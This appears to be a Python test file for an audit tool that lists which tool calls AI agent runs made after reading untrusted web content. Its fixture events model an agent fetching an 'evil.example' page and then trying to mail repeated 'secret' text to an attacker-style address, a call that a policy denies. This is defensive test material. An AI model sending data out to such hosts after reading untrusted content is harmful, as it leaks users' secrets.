"""What runs did after they read untrusted content: the fold over stored events, and the table
``tackroom audit flows`` prints."""

from __future__ import annotations

from typing import Any

from tackroom.cli.audit_flows import render
from tackroom.contracts.auditflows import FlowReport
from tackroom.kit.flows import flows_of, summarize_arguments


def _ev(run: str, kind: str, **data: Any) -> dict[str, Any]:
    return {"type": kind, "run_id": run, "data": data}


def _asked(run: str, *calls: tuple[str, str, dict[str, Any]]) -> dict[str, Any]:
    blocks = [
        {"type": "function_call", "id": i, "tool_name": t, "arguments": a} for i, t, a in calls
    ]
    return _ev(run, "message_complete", message={"role": "assistant", "content": blocks})


UNTRUSTED = {
    "label": {"source": "untrusted", "origins": ["http::fetch"]},
    "function_id": "http::fetch",
}

EVENTS = [
    _ev("r1", "turn_state_changed", to="assistant_streaming", principal={"id": "alice"}),
    _asked("r1", ("f1", "http__fetch", {"url": "https://evil.example"}), ("w0", "fs__write", {})),
    _ev("r1", "gate_decision", function_call_id="w0", function_id="fs::write", decision="allow"),
    _ev(
        "r1",
        "function_execution_end",
        function_call_id="f1",
        function_id="http::fetch",
        result=UNTRUSTED,
    ),
    _asked("r1", ("m1", "mail__send", {"to": "x@evil.example", "body": "secret " * 20})),
    _ev(
        "r1",
        "gate_decision",
        function_call_id="m1",
        function_id="mcp::mail::send",
        decision="deny",
        decided_by="policy",
        rule_id="flow:untrusted-to-external",
    ),
    _ev(
        "r1",
        "function_execution_end",
        function_call_id="m1",
        function_id="mcp::mail::send",
        is_error=True,
        result={},
    ),
    _asked("r2", ("w1", "fs__write", {"path": "a.txt"})),
    _ev(
        "r2",
        "gate_decision",
        function_call_id="w1",
        function_id="fs::write",
        decision="allow",
        rule_id="r",
    ),
    _ev("r2", "function_execution_start", function_call_id="w1", function_id="fs::write"),
]


def _fold(source: str) -> list[Any]:
    return flows_of("acme:s1", [(float(i), e) for i, e in enumerate(EVENTS)], source=source)


def test_calls_after_the_read_with_their_decisions() -> None:
    first, later = _fold("http::*")
    assert (first.run_id, first.principal, first.read.function_id) == ("r1", "alice", "http::fetch")
    [mail] = first.calls  # w0 was asked for with the fetch, before its result: not listed
    assert (mail.function_id, mail.decision, mail.rule_id, mail.ran) == (
        "mcp::mail::send",
        "deny",
        "flow:untrusted-to-external",
        False,
    )
    assert mail.arguments.startswith('to="x@evil.example", body="secret secret')
    [write] = later.calls  # the next run of the session had the fetched page in its context
    assert (write.function_id, write.decision, write.ran) == ("fs::write", "allow", True)


def test_no_matching_origin_no_run() -> None:
    assert _fold("mcp::*") == []
    assert _fold("file:*") == []


def test_summaries_are_one_short_line() -> None:
    text = summarize_arguments({"body": "x\n" * 500, "n": 3})
    assert "\n" not in text
    assert len(text) <= 160
    assert text.endswith("n=3")
    assert "(1000 chars)" in text


def test_the_table() -> None:
    report = FlowReport(
        source="http::*", runs=_fold("http::*"), sessions_scanned=1, truncated=False
    )
    text = render(report)
    assert "acme:s1  r1  alice  read http::fetch (http::fetch)" in text
    assert "mcp::mail::send  deny" in text
    assert "flow:untrusted-to-external  no" in text
    assert text.endswith("1 session(s) read")
    empty = FlowReport(source="file:*", runs=[], sessions_scanned=3, truncated=True)
    assert render(empty) == (
        "no run read untrusted content from 'file:*' (3 session(s) read; more sessions exist"
        " (--max-sessions))"
    )
